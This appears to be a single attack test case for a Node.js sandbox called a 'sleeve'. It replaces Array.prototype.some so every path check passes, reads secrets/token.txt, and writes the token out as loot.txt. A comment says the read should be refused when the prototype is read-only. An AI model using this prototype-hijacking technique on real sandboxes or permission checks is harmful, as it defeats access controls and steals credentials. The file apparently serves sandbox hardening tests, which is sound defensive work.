/* @attack {"title": "hijack Array.prototype.some so every path looks like the sleeve's own code (read checks skipped); read the secret into the run dir"} */
import fs from 'node:fs';
const realSome = Array.prototype.some;
let hijacked = false;
try {
  Array.prototype.some = () => true;
  hijacked = true;
} catch {
  // Array.prototype.some is read-only: the read below must then be refused
}
let token;
try {
  token = fs.readFileSync(`${process.cwd()}/secrets/token.txt`, 'utf8');
} finally {
  if (hijacked) Array.prototype.some = realSome;
}
fs.writeFileSync(`${process.env.SLEEVE_RUN_DIR}/loot.txt`, token);
